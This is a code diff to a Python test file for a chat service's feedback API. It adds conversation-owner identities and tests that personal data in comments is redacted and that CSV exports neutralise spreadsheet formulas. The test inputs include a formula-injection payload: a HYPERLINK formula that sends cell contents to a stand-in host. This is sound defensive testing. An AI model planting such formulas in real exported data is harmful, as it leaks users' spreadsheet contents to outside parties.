@@ -7,6 +7,7 @@ import csv
 import io
 import json
 from collections.abc import Iterator
+from dataclasses import dataclass
 
 import httpx
 import pytest
@@ -34,16 +35,25 @@ def served(settings: Settings) -> Iterator[tuple[str, SqliteConversationStore]]:
     stop(process)
 
 
+@dataclass(frozen=True)
+class Caller:
+    headers: dict[str, str]
+    identity: str  # who owns the conversations they start
+
+
+LOCAL = Caller({}, "single-user")  # the server runs in single-user mode
+
+
 @pytest.fixture(scope="module")
-def admin(settings: Settings) -> dict[str, str]:
-    """An administrator's headers: the exports need them (the tests that use them send
-    them with the feedback too, so they do not depend on how keyless callers are served)."""
-    _, key = KeyStore(settings.api_keys_path).create("beheerder", "admin")
-    return {"Authorization": f"Bearer {key}"}
+def admin(settings: Settings) -> Caller:
+    """An administrator: the exports need one (the tests that use it send its key with
+    the feedback too, so they do not depend on how keyless callers are served)."""
+    made, key = KeyStore(settings.api_keys_path).create("beheerder", "admin")
+    return Caller({"Authorization": f"Bearer {key}"}, f"key:{made.id}")
 
 
-def _answer(store: SqliteConversationStore) -> tuple[str, str]:
-    conversation_id = store.create()
+def _answer(store: SqliteConversationStore, owner: Caller = LOCAL) -> tuple[str, str]:
+    conversation_id = store.create(owner.identity)
     message_id = store.add_exchange(conversation_id, "Vraag?", "Vraag?", "Antwoord [1].", {})
     return conversation_id, message_id
 
@@ -92,15 +102,15 @@ def _export(base: str, admin: dict[str, str], fmt: str) -> str:
 
 
 def test_personal_data_in_a_comment_is_stored_and_exported_redacted(
-    served, admin, settings: Settings
+    served, admin: Caller, settings: Settings
 ) -> None:
     base, store = served
-    _, message_id = _answer(store)
+    _, message_id = _answer(store, admin)
     comment = "Mijn BSN is 111222333, mail de uitkomst naar jan.jansen@example.nl graag."
     response = httpx.post(
         f"{base}/api/feedback",
         json={"message_id": message_id, "comment": comment},
-        headers=admin,
+        headers=admin.headers,
     )
     assert response.status_code == 201, response.text
     feedback_id = response.json()["feedback_id"]
@@ -108,9 +118,11 @@ def test_personal_data_in_a_comment_is_stored_and_exported_redacted(
     assert {f.id: f.comment for f in store.feedback()}[feedback_id] == redacted
     files = settings.conversations_path.parent.glob("conversations.sqlite*")
     assert not any(b"111222333" in path.read_bytes() for path in files)
-    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin, "csv")))}
+    rows = {
+        row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin.headers, "csv")))
+    }
     assert rows[feedback_id]["comment"] == redacted
-    lines = [json.loads(line) for line in _export(base, admin, "jsonl").splitlines()]
+    lines = [json.loads(line) for line in _export(base, admin.headers, "jsonl").splitlines()]
     assert {line["id"]: line["comment"] for line in lines}[feedback_id] == redacted
 
 
@@ -120,22 +132,24 @@ FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klik")', "+1", "-2", "@SUM
 BLANK_STARTS = ["\tx", "\rx"]
 
 
-def test_the_csv_export_writes_formulas_as_text(served, admin) -> None:
+def test_the_csv_export_writes_formulas_as_text(served, admin: Caller) -> None:
     base, store = served
     sent = {}
     for text in [*FORMULAS, *BLANK_STARTS]:
-        conversation_id = store.create()
+        conversation_id = store.create(admin.identity)
         message_id = store.add_exchange(conversation_id, text, text, text, {})
         comment = text if text in FORMULAS else None
         body = {"message_id": message_id, "comment": comment, "rating": "down"}
-        response = httpx.post(f"{base}/api/feedback", json=body, headers=admin)
+        response = httpx.post(f"{base}/api/feedback", json=body, headers=admin.headers)
         sent[response.json()["feedback_id"]] = text
-    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin, "csv")))}
+    rows = {
+        row["id"]: row for row in csv.DictReader(io.StringIO(_export(base, admin.headers, "csv")))
+    }
     for feedback_id, text in sent.items():
         row = rows[feedback_id]
         assert (row["question"], row["answer"]) == (f"'{text}", f"'{text}")
         assert row["comment"] == (f"'{text}" if text in FORMULAS else "")
-    lines = [json.loads(line) for line in _export(base, admin, "jsonl").splitlines()]
+    lines = [json.loads(line) for line in _export(base, admin.headers, "jsonl").splitlines()]
     raw = {line["id"]: line for line in lines if line["id"] in sent}
     assert {i: (line["question"], line["comment"]) for i, line in raw.items()} == {
         i: (text, text if text in FORMULAS else None) for i, text in sent.items()
